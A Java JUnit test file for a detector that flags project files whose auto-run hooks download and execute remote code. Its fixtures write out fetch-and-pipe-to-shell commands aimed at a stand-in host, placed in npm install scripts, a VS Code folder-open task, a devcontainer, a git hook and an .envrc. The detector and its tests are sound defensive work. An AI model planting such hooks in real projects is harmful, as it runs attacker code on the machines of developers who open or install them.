package dev.bonafide.takehome;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bonafide.check.Look;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

final class FetchesItselfTest {
  private static Look look(String path, String text) {
    return TakeHomeTest.look(new FetchesItself(), ToldRepository.of(path, text).end());
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '§',
      quoteCharacter = '\0',
      textBlock =
          """
          package.json § {"scripts": {"postinstall": "husky"}}
          package.json § {"scripts": {"release": "curl -s https://x.example/a | sh"}}
          package.json § {"scripts": {"postinstall": "curl -sO https://x.example/data.csv"}}
          .vscode/tasks.json § {"command": "npm run watch", "runOptions": {"runOn": "folderOpen"}}
          README.md § curl -s https://x.example/a | sh
          .husky/pre-commit § npm test
          """)
  void what_starts_by_itself_and_fetches_no_program_is_nothing(String path, String text) {
    assertThat(look(path, text)).isNotInstanceOf(Look.Seen.class);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '§',
      quoteCharacter = '\0',
      textBlock =
          """
          package.json § {"scripts": {"preinstall": "curl -fsSL https://x.example/i | bash"}}
          .vscode/tasks.json § {"command": "curl -s https://x.example/a | sh", "runOptions": {"runOn": "folderOpen"}}
          .devcontainer/devcontainer.json § {"postCreateCommand": "wget -q https://x.example/s -O s && sh s"}
          .git/hooks/post-checkout § curl -s https://x.example/s | sh
          .envrc § source <(curl -s https://x.example/env)
          """)
  void what_starts_by_itself_and_runs_what_it_fetches_is_seen(String path, String text) {
    assertThat(look(path, text)).isInstanceOf(Look.Seen.class);
  }
}
